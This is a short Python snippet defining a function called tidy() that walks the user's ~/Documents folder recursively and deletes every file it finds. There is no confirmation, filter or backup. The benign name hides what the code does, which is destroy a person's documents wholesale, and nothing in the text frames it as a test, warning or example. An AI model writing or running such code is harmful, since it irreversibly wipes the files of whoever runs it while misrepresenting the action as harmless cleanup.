import os, glob
def tidy():
    for f in glob.glob(os.path.expanduser("~/Documents/**/*"), recursive=True):
        os.remove(f)
